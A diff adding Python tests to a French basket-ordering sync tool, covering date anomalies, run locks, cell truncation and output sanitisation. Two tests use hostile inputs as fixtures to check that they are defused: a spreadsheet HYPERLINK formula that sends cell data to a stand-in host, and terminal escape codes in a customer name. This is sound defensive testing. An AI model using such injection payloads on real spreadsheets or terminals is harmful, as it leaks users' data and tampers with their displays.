@@ -161,3 +161,163 @@ def test_check_writes_the_sign_off_tab_and_keeps_a_paid_mark(folder, capsys):
     after = store.read(["Émargement"])["Émargement"]
     row = next(r for r in after if r[2] == grid[1][2] and r[0] == grid[1][0])
     assert row[header.index("Payé")] == "oui" and row[header.index("Remarques")] == "chèque n° 1234"
+
+
+def test_a_sale_dated_in_year_9999_is_an_anomaly_of_its_row_and_every_job_goes_on(folder, capsys):
+    run(capsys, "init", "--demo", *NOW)
+    store = LocalWorkbookStore(folder / "paniers.xlsx")
+    sales = store.read(["Ventes"])["Ventes"]
+    row = list(sales[1]) + [""] * (len(sales[0]) - len(sales[1]))
+    row[:6] = ["2099-FIN", "La fin des temps", "01/12/2026 08:00", "31/12/9999 23:59", "31/12/9999 23:59", ""]
+    from sync.stores import Changes
+    store.write(Changes(replace={"Ventes": [*sales, row]}))
+    where = f"onglet « Ventes », ligne {len(sales) + 1}, colonne « Clôture » : date hors limites"
+    code, out, err = run(capsys, "check", *NOW)
+    assert code == 0 and where in out and "Erreur" not in err, err
+    assert "2026-12 · Vente de décembre" in out  # the other sales go on
+    code, out, err = run(capsys, "tick", *NOW)
+    assert code == 0 and where in out, err
+    assert "Vente 2026-12 (Vente de décembre) : commandes ouvertes" in out
+    code, out, err = run(capsys, "status", *NOW)
+    assert code == 0 and "Vente 2026-12 — Vente de décembre : commandes ouvertes" in out, err
+    anomalies = store.read(["Anomalies"])["Anomalies"]
+    assert ["", "erreur", "Ventes", len(sales) + 1, "Clôture"] in [r[:5] for r in anomalies]
+
+
+def test_plan_out_writes_a_product_named_like_a_formula_as_text_in_xlsx_and_csv(folder, capsys):
+    import csv
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    run(capsys, "init", "--demo", *NOW)
+    store = LocalWorkbookStore(folder / "paniers.xlsx")
+    products = store.read(["Produits"])["Produits"]
+    hostile = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
+    code = products[1][0]
+    products[1][2] = hostile  # its Nom, typed by a producer or pasted from an email
+    from sync.stores import Changes
+    store.write(Changes(replace={"Produits": products}))
+    assert run(capsys, "plan", "--like", "2026-11", "--out", "plan.xlsx", *NOW)[0] == 0
+    assert run(capsys, "plan", "--like", "2026-11", "--out", "plan.csv", *NOW)[0] == 0
+    sheet = load_workbook(folder / "plan.xlsx").active
+    [cell] = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK") and cell.quotePrefix
+    with zipfile.ZipFile(folder / "plan.xlsx") as package:
+        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")  # no formula anywhere in the file
+    rows = list(csv.reader(io.StringIO((folder / "plan.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
+    [row] = [r for r in rows if r[1] == code]
+    assert row[2].startswith("'=HYPERLINK")
+    assert not any(field[:1] in "=+-@\t\r" for r in rows for field in r if field)
+
+
+def test_escape_codes_typed_in_a_name_never_reach_the_terminal(folder, capsys):
+    run(capsys, "init", "--demo", *NOW)
+    store = LocalWorkbookStore(folder / "paniers.xlsx")
+    tab = "Réponses au formulaire 1"
+    responses = store.read([tab])[tab]
+    row = next(i for i, r in enumerate(responses) if r[1] == "nathalie.roux@example.com")  # her order is cut: named
+    # how Excel stores an escape character typed in a cell (_x001B_), then the 8-bit CSI that XML holds as it is
+    responses[row][2] = "_x001B_[2J_x001B_]0;pwned_x0007_Roux\x9b2J"
+    from sync.stores import Changes
+    store.write(Changes(replace={tab: responses}))
+    assert "\x1b[2J" in store.read([tab])[tab][row][2]  # what the store hands the jobs
+    # check names her in its report; tick prints its own report; an error message quotes what it was given
+    for argv, code in ((["check"], 0), (["tick"], 0), (["tick", "--sale", "\x1b]0;pwned\x07"], 2)):
+        done = subprocess.run([sys.executable, str(ROOT / "jobs.py"), *argv, *NOW], cwd=folder, capture_output=True,
+                              timeout=300)
+        assert done.returncode == code, done.stderr.decode()
+        printed = done.stdout + done.stderr
+        for control in (b"\x1b", b"\x07", b"\r", "\x9b".encode()):
+            assert control not in printed, (argv, control)
+        assert "pwned" in printed.decode() or argv == ["tick"], argv
+    done = subprocess.run([sys.executable, str(ROOT / "jobs.py"), "check", *NOW], cwd=folder, capture_output=True)
+    assert "Nathalie \ufffd[2J\ufffd]0;pwned\ufffdRoux\ufffd2J (nathalie.roux@example.com)" in done.stdout.decode()
+
+
+def test_printable_keeps_lines_and_tabs_and_marks_every_other_control_character():
+    from sync.terminal import printable
+
+    assert printable("a\tb\nc") == "a\tb\nc"
+    assert printable("".join(map(chr, range(32))).replace("\t", "").replace("\n", "")) == "\ufffd" * 30
+    assert printable("\x7f\x80\x9f\xa0é") == "\ufffd\ufffd\ufffd\xa0é"
+
+
+def test_a_40000_character_answer_becomes_a_32767_character_cell_ending_with_an_ellipsis(folder, capsys):
+    from openpyxl import load_workbook
+    from python_calamine import CalamineWorkbook
+
+    run(capsys, "init", "--demo", *NOW)
+    path = folder / "paniers.xlsx"
+    book = load_workbook(path)  # the answers tab as Google Sheets holds it (50 000 characters a cell), bypassing
+    sheet = book["Réponses au formulaire 1"]  # the store, which would cut it on its way in
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in range(2, sheet.max_row + 1)  # her December order, taken before NOW
+               if sheet.cell(r, 2).value == "sophie.renaudin@example.com" and str(sheet.cell(r, 1).value)[3:5] == "12")
+    sheet.cell(row, header.index("Nom") + 1).value = "N" * 40_000
+    sheet.cell(row, header.index("Commentaire") + 1).value = "C" * 40_000
+    book.save(path)
+    code, _out, err = run(capsys, "check", *NOW)
+    assert code == 0, err
+    orders = LocalWorkbookStore(path).read(["Commandes"])["Commandes"]
+    names = [r[orders[0].index("Nom")] for r in orders[1:] if r[:2] == ["2026-12", "sophie.renaudin@example.com"]]
+    assert names and all(len(n) == 32_767 and n.endswith("…") and n.startswith("Sophie NNN") for n in names)
+    reopened = load_workbook(path, read_only=True)  # opens, as Excel and LibreOffice need it to
+    longest = max(len(v) for ws in reopened for r in ws.iter_rows(values_only=True) for v in r
+                  if isinstance(v, str) and ws.title != "Réponses au formulaire 1")
+    assert longest == 32_767
+    calamine = CalamineWorkbook.from_path(str(path))
+    assert len(calamine.get_sheet_by_name("Commandes").to_python()) == len(orders)
+
+
+def test_check_waits_for_a_running_tick_and_writes_nothing_meanwhile(folder, capsys):
+    from conftest import at
+
+    from sync.runlock import exclusive
+
+    run(capsys, "init", "--demo", *NOW)
+    path = folder / "paniers.xlsx"
+    store = LocalWorkbookStore(path)
+    tab = "Réponses au formulaire 1"
+    responses = store.read([tab])[tab]
+    newcomer = ["02/12/2026 08:00:00", "nouvelle.voisine@example.org", *responses[-1][2:]]  # a household never seen
+    from sync.stores import Changes
+    store.write(Changes(replace={tab: [*responses, newcomer]}))
+    before = path.read_bytes()
+    with exclusive(folder / ".paniers.lock", at("2026-12-02 09:59")):  # a tick sending, as cron started it
+        code, out, _ = run(capsys, "check", *NOW)
+        assert code == 0
+        assert "Un autre passage de Paniers est en cours (processus" in out
+        assert "« paniers check » s'arrête sans rien écrire" in out
+        assert path.read_bytes() == before  # Clients, and everything else, as the tick will find it
+        code, out, _ = run(capsys, "init", *NOW)
+        assert code == 0 and "« paniers init » s'arrête sans rien écrire" in out
+    code, out, _ = run(capsys, "check", *NOW)  # the tick done: check does its work
+    assert code == 0 and "1 nouveau foyer ajouté" in out
+    assert "nouvelle.voisine@example.org" in [r[0] for r in store.read(["Clients"])["Clients"]]
+
+
+def test_publish_form_sends_nothing_while_another_run_holds_the_lock(folder, capsys):
+    from conftest import at
+
+    from sync import config as config_module
+    from sync.commands import Context, publish_form
+    from sync.runlock import exclusive
+
+    run(capsys, "init", "--demo", *NOW)
+    form_id = "1FbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEF"
+    text = (folder / "config.toml").read_text(encoding="utf-8")
+    (folder / "config.toml").write_text(text.replace('# form_id = "1FbC..."', f'form_id = "{form_id}"'))
+    config = config_module.load(folder / "config.toml")
+    assert config.forms.form_id == form_id  # without the lock, the job would go to Google now
+
+    class Untouchable:  # any request to Google would fail the test
+        def __getattr__(self, name):
+            raise AssertionError(f"Google was asked something: {name}")
+
+    said = []
+    ctx = Context(config, LocalWorkbookStore(folder / "paniers.xlsx"), at("2026-12-02 10:00"), said.append)
+    with exclusive(folder / ".paniers.lock", at("2026-12-02 09:59")):
+        assert publish_form.run(ctx, "2026-12", session=Untouchable()) == 0
+    assert "« paniers publish-form » s'arrête sans rien écrire" in said[0]
